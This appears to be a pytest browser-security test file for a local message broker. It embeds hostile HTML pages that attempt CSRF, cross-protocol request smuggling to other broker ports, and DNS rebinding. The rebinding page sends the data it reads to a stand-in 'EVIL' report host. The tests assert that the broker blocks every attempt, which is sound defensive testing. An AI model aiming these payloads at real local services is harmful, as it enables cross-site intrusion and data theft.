"""A real browser shows pages of other sites that try to use a broker on loopback."""

import asyncio
import json
import re
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
import pytest_asyncio

from penstock.testing.process import BrokerProcess
from tests.support.browser import CHROMIUM, EVIL, SECONDS_MAX, Relay, Site, browsing, listening

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs chromium (tools/install_test_tools.sh)")

ATTACKS = """<!doctype html><title>attacks</title>
<iframe name=sink></iframe><iframe name=framed></iframe>
<form id=text method=post enctype=text/plain target=sink action="TARGET/topics?mark=form">
<input name='{"name":"by-form","x":"' value='"}'></form>
<script>
const target = "TARGET";
const json = {method: "POST", body: JSON.stringify({name: "by-fetch"})};
fetch(target + "/topics?mark=simple", {...json, mode: "no-cors", headers: {"Content-Type": "text/plain"}});
fetch(target + "/topics/present/messages?mark=lane", {method: "POST", body: '{"value":"x"}', mode: "no-cors"});
fetch(target + "/topics?mark=preflight", {...json, headers: {"Content-Type": "application/json"}}).catch(() => 0);
fetch(target + "/topics/present?mark=delete", {method: "DELETE"}).catch(() => 0);
fetch(target + "/topics?mark=read").catch(() => 0);
new Image().src = target + "/v1/consume?topic=present&group=page&owner=img&mark=image";
new EventSource(target + "/topics/present/tail?mark=events");
navigator.sendBeacon(target + "/topics?mark=beacon", '{"name":"by-beacon"}');
const script = document.createElement("script");
script.src = target + "/metrics?mark=script";
document.head.append(script);
document.querySelector("[name=framed]").src = target + "/docs?mark=frame";
document.getElementById("text").submit();
</script>"""
MARKS = ("simple", "lane", "preflight", "delete", "read", "image", "events", "beacon", "script", "frame", "form")

LINES = """<!doctype html><title>lines</title><script>
(async () => {
  const body = '\\n{"type":"createTopic","topic":"by-lines"}\\n';
  for (const port of PORTS) {
    await fetch("http://127.0.0.1:" + port, {method: "POST", body, mode: "no-cors"}).catch(() => 0);
  }
  await fetch("/report", {method: "POST", body: "done"});
})();
</script>"""

LINK = """<!doctype html><title>link</title><script>location.href = "TARGET/PATH?mark=link";</script>"""

REBOUND = """<!doctype html><title>rebound</title><script>
(async () => {
  // The site has become the broker as soon as it no longer answers with this page.
  let page;
  do {
    page = await fetch("/topics?mark=poll", {cache: "no-store"});
  } while ((await page.clone().text()).includes("<title>rebound"));
  const made = await fetch("/topics?mark=post", {method: "POST", body: '{"name":"by-rebinding"}'});
  const report = {read: page.status, text: await page.text(), made: made.status};
  await fetch("http://EVIL:PORT/report", {method: "POST", mode: "no-cors", body: JSON.stringify(report)});
})();
</script>"""


@pytest_asyncio.fixture
async def relay(broker_process: BrokerProcess) -> AsyncIterator[Relay]:
    relay = Relay(broker_process.addresses["http"])
    async with listening(relay):
        yield relay


@pytest_asyncio.fixture
async def client(broker_process: BrokerProcess) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(base_url=f"http://{broker_process.addresses['http']}", timeout=60) as client:
        yield client


async def topics(client: httpx.AsyncClient) -> set[str]:
    return {topic["name"] for topic in (await client.get("/topics")).json()["topics"]}


@pytest.mark.parametrize("host", [EVIL, "127.0.0.1"], ids=["another site", "another port of the same site"])
async def test_a_page_of_another_origin_changes_nothing(
    tmp_path: Path, relay: Relay, client: httpx.AsyncClient, host: str
) -> None:
    await client.post("/topics", json={"name": "present", "partitions": 1})
    before = await topics(client)
    site = Site(lambda: ATTACKS.replace("TARGET", f"http://127.0.0.1:{relay.port}"))
    async with listening(site), browsing(f"http://{host}:{site.port}/", tmp_path / "profile", tmp_path / "log"):
        await relay.until(lambda: all(relay.of(f"mark={mark}") for mark in MARKS))
    # Every attack has reached the broker, and none has passed.
    assert {mark: {seen.status for seen in relay.of(f"mark={mark}")} for mark in MARKS} == {
        mark: {403} for mark in MARKS
    }
    assert {seen.method for seen in relay.of("mark=preflight")} == {"OPTIONS"}
    assert await topics(client) == before
    offsets = await client.get("/topics/present/partitions/0/offsets")
    assert offsets.json()["high_watermark"] == 0


async def test_a_page_reaches_none_of_the_other_protocols(
    tmp_path: Path, broker_process: BrokerProcess, client: httpx.AsyncClient
) -> None:
    before = await topics(client)
    ports = [broker_process.addresses[name].rpartition(":")[2] for name in ("tcp", "kafka", "grpc")]
    site = Site(lambda: LINES.replace("PORTS", f"[{','.join(ports)}]"))
    async with listening(site), browsing(f"http://{EVIL}:{site.port}/", tmp_path / "profile", tmp_path / "log"):
        async with asyncio.timeout(SECONDS_MAX):
            assert await site.reports.get() == "done"
    metrics = (await client.get("/metrics")).text
    assert re.search(r'penstock_request_errors_total{gateway="tcp",.*wrong_protocol"} [1-9]', metrics)
    assert await topics(client) == before


async def test_a_page_that_is_rebound_to_the_broker_reads_and_changes_nothing(
    tmp_path: Path, relay: Relay, client: httpx.AsyncClient
) -> None:
    before = await topics(client)
    served = asyncio.Event()
    reports = Site(str)
    async with listening(reports):

        def page() -> str:
            served.set()
            return REBOUND.replace("EVIL", EVIL).replace("PORT", str(reports.port))

        relay.site = Site(page)
        async with browsing(f"http://{EVIL}:{relay.port}/", tmp_path / "profile", tmp_path / "log"):
            async with asyncio.timeout(SECONDS_MAX):
                await served.wait()
                relay.site = None
                report = json.loads(await reports.reports.get())
    # To the browser it is one origin, which the page may read.
    assert (report["read"], report["made"]) == (421, 421)
    assert "topics" not in json.loads(report["text"])
    assert f"host: {EVIL}:{relay.port}" in relay.of("mark=post")[0].head
    assert await topics(client) == before


@pytest.mark.parametrize(("path", "status"), [("docs", 200), ("topics", 403), ("v1/consume", 403)])
async def test_another_site_may_link_to_the_page_of_the_api_alone(
    tmp_path: Path, relay: Relay, path: str, status: int
) -> None:
    site = Site(lambda: LINK.replace("TARGET", f"http://127.0.0.1:{relay.port}").replace("PATH", path))
    async with listening(site), browsing(f"http://{EVIL}:{site.port}/", tmp_path / "profile", tmp_path / "log"):
        await relay.until(lambda: relay.of("mark=link"))
        (link,) = relay.of("mark=link")
        assert link.status == status
        assert "sec-fetch-site: cross-site" in link.head
        if status == 200:
            # The page is of the broker's origin: it loads all that it needs.
            await relay.until(lambda: len(relay.exchanges) == 4)
            assert {seen.target: seen.status for seen in relay.exchanges[1:]} == dict.fromkeys(
                ("/docs/docs.css", "/docs/docs.js", "/openapi.json"), 200
            )


async def test_what_the_user_types_is_served(tmp_path: Path, relay: Relay) -> None:
    async with browsing(f"http://localhost:{relay.port}/topics?mark=typed", tmp_path / "profile", tmp_path / "log"):
        await relay.until(lambda: relay.of("mark=typed"))
    (typed,) = relay.of("mark=typed")
    assert typed.status == 200
    assert "sec-fetch-site: none" in typed.head
